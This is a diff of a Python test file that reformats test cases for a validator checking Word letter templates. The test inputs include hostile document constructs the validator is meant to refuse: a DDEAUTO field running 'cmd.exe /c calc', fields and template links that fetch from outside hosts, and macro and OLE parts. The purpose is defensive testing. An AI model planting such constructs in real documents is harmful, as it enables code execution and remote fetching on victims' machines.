@@ -26,9 +26,17 @@ def template(*paragraphs: str, header: str = "") -> bytes:
 
 
 GOOD = template(
-    "{{ board }}", "{%p for line in to %}", "{{ line }}", "{%p endfor %}", "{{ subject }}", "{% if dnr %}Dnr {{ dnr }}{% endif %}",
-    "{%p for line in lines %}", "{{ line }}", "{%p endfor %}", header="{{ board }} {{ date }}",
-)  # fmt: skip
+    "{{ board }}",
+    "{%p for line in to %}",
+    "{{ line }}",
+    "{%p endfor %}",
+    "{{ subject }}",
+    "{% if dnr %}Dnr {{ dnr }}{% endif %}",
+    "{%p for line in lines %}",
+    "{{ line }}",
+    "{%p endfor %}",
+    header="{{ board }} {{ date }}",
+)
 
 
 def texts(data: bytes) -> list[str]:
@@ -100,13 +108,19 @@ def test_a_field_in_the_header_is_checked_too() -> None:
 @pytest.mark.parametrize(
     "data",
     [
-        b"", b"not a document", b"%PDF-1.7", with_part(GOOD, "word/vbaProject.bin", b"macro"),
+        b"",
+        b"not a document",
+        b"%PDF-1.7",
+        with_part(GOOD, "word/vbaProject.bin", b"macro"),
         with_part(GOOD, "word/embeddings/oleObject1.bin", b"x"),
-        with_part(GOOD, "word/_rels/settings.xml.rels",
-                  b'<Relationships><Relationship Id="r" Type="attachedTemplate" Target="https://x.example/t.dotm" TargetMode="External"/></Relationships>'),
+        with_part(
+            GOOD,
+            "word/_rels/settings.xml.rels",
+            b'<Relationships><Relationship Id="r" Type="attachedTemplate" Target="https://x.example/t.dotm" TargetMode="External"/></Relationships>',
+        ),
         with_part(GOOD, "docProps/core.xml", b"<x>{{ board }}</x>"),
     ],
-)  # fmt: skip
+)
 def test_macros_embedded_objects_and_things_fetched_from_outside_are_refused(data: bytes) -> None:
     assert len(wrong_with_template(data, "mall.docx")) == 1
 
@@ -136,8 +150,12 @@ def linked(line: str) -> bytes:
 def typed(kind: str) -> bytes:
     """A part with an innocent name, led to by an innocent link, of a type that does something."""
     line = f'<Relationship Id="x" Type="{WORD}/customXml" Target="evil.dat"/>'
-    data = edited(linked(line), "[Content_Types].xml", "</Types>",
-                  f'<Override PartName="/word/evil.dat" ContentType="{kind}"/></Types>')  # fmt: skip
+    data = edited(
+        linked(line),
+        "[Content_Types].xml",
+        "</Types>",
+        f'<Override PartName="/word/evil.dat" ContentType="{kind}"/></Types>',
+    )
     return with_part(data, "word/evil.dat", b"\xd0\xcf\x11\xe0")
 
 
@@ -175,19 +193,35 @@ def test_what_a_template_leads_to_is_read_as_xml_and_allowed_by_its_kind(line: s
     assert len(wrong_with_template(linked(line), "mall.docx")) == 1
 
 
-@pytest.mark.parametrize("kind", [
-    "application/vnd.ms-office.vbaProject", "application/vnd.openxmlformats-officedocument.oleObject", "text/html",
-    "application/vnd.ms-word.keyMapCustomizations+xml", "image/svg+xml",
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "kind",
+    [
+        "application/vnd.ms-office.vbaProject",
+        "application/vnd.openxmlformats-officedocument.oleObject",
+        "text/html",
+        "application/vnd.ms-word.keyMapCustomizations+xml",
+        "image/svg+xml",
+    ],
+)
 def test_a_part_is_allowed_by_its_type_whatever_it_is_called(kind: str) -> None:
     assert len(wrong_with_template(typed(kind), "mall.docx")) == 1
 
 
-@pytest.mark.parametrize("pieces", [
-    ('INCLUDETEXT "http://x.example/x"',), ("INC", 'LUDEPICTURE "http://x.example/x"'), ('DDEAUTO cmd.exe "/c calc"',),
-    ('HYPERLINK "file://x.example"',), ('LINK Excel.Sheet.8 "x"',), ("{{ board }}",), ("IMPORT x",), ("MACROBUTTON x y",),
-    ("PAGE {{ board }}",), ("",),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "pieces",
+    [
+        ('INCLUDETEXT "http://x.example/x"',),
+        ("INC", 'LUDEPICTURE "http://x.example/x"'),
+        ('DDEAUTO cmd.exe "/c calc"',),
+        ('HYPERLINK "file://x.example"',),
+        ('LINK Excel.Sheet.8 "x"',),
+        ("{{ board }}",),
+        ("IMPORT x",),
+        ("MACROBUTTON x y",),
+        ("PAGE {{ board }}",),
+        ("",),
+    ],
+)
 def test_a_field_that_fetches_runs_or_is_filled_in_is_refused(pieces: tuple[str, ...]) -> None:
     assert len(wrong_with_template(with_field(*pieces), "mall.docx")) == 1
     if pieces[0] and len(pieces) == 1:
@@ -195,18 +229,29 @@ def test_a_field_that_fetches_runs_or_is_filled_in_is_refused(pieces: tuple[str,
         assert len(wrong_with_template(with_field(simple=simple), "mall.docx")) == 1
 
 
-@pytest.mark.parametrize("part", [
-    '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://x.example/x.png"/></v:shape></w:pict></w:r>',
-    '<w:subDoc xmlns:r="x" r:id="y"/>', "<w:r><w:object/></w:r>",
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "part",
+    [
+        '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://x.example/x.png"/></v:shape></w:pict></w:r>',
+        '<w:subDoc xmlns:r="x" r:id="y"/>',
+        "<w:r><w:object/></w:r>",
+    ],
+)
 def test_an_element_that_fetches_or_embeds_is_refused(part: str) -> None:
     assert len(wrong_with_template(edited(GOOD, "word/document.xml", "</w:p>", f"{part}</w:p>"), "mall.docx")) == 1
 
 
-@pytest.mark.parametrize("name", [
-    "word/DOCUMENT.XML", "WORD/document.xml", "word/_rels/DOCUMENT.xml.rels", "word/other.xml", "payload.exe",
-    "word%2Fx.xml",
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "name",
+    [
+        "word/DOCUMENT.XML",
+        "WORD/document.xml",
+        "word/_rels/DOCUMENT.xml.rels",
+        "word/other.xml",
+        "payload.exe",
+        "word%2Fx.xml",
+    ],
+)
 def test_nothing_lies_in_a_template_that_nothing_leads_to(name: str) -> None:
     assert len(wrong_with_template(with_part(GOOD, name, b"<x/>"), "mall.docx")) == 1
 
@@ -214,13 +259,17 @@ def test_nothing_lies_in_a_template_that_nothing_leads_to(name: str) -> None:
 STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
 
 
-@pytest.mark.parametrize("part", [
-    f'<s:fldSimple xmlns:s="{STRICT}" s:instr="DDEAUTO x"/>',
-    f'<s:r xmlns:s="{STRICT}"><s:fldChar s:fldCharType="begin"/><s:instrText>DDEAUTO x</s:instrText></s:r>',
-    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:t>DDEAUTO x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
-    '<w:hyperlink w:docLocation="file://x.example/x"/>', "<w:r><w:ffData><w:entryMacro w:val='x'/></w:ffData></w:r>",
-    '<v:fill xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" o:href="file://x"/>',
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "part",
+    [
+        f'<s:fldSimple xmlns:s="{STRICT}" s:instr="DDEAUTO x"/>',
+        f'<s:r xmlns:s="{STRICT}"><s:fldChar s:fldCharType="begin"/><s:instrText>DDEAUTO x</s:instrText></s:r>',
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:t>DDEAUTO x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
+        '<w:hyperlink w:docLocation="file://x.example/x"/>',
+        "<w:r><w:ffData><w:entryMacro w:val='x'/></w:ffData></w:r>",
+        '<v:fill xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" o:href="file://x"/>',
+    ],
+)
 def test_other_words_for_the_same_are_refused_too(part: str) -> None:
     assert len(wrong_with_template(edited(GOOD, "word/document.xml", "</w:p>", f"{part}</w:p>"), "mall.docx")) == 1
 
@@ -231,9 +280,15 @@ def test_a_mail_merge_in_the_settings_is_refused() -> None:
     assert len(wrong_with_template(data, "mall.docx")) == 1
 
 
-@pytest.mark.parametrize("pieces", [
-    ("PAGE",), (" NUM", "PAGES  "), ('HYPERLINK "https://exempel.se/kontakt"',), ('DATE \\@ "yyyy-MM-dd"',),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "pieces",
+    [
+        ("PAGE",),
+        (" NUM", "PAGES  "),
+        ('HYPERLINK "https://exempel.se/kontakt"',),
+        ('DATE \\@ "yyyy-MM-dd"',),
+    ],
+)
 def test_what_letters_need_is_let_through(pieces: tuple[str, ...]) -> None:
     link = f'<Relationship Id="x" Type="{WORD}/hyperlink" Target="mailto:namnd@exempel.se" TargetMode="External"/>'
     data = edited(with_field(*pieces), LINKS, "</Relationships>", f"{link}</Relationships>")
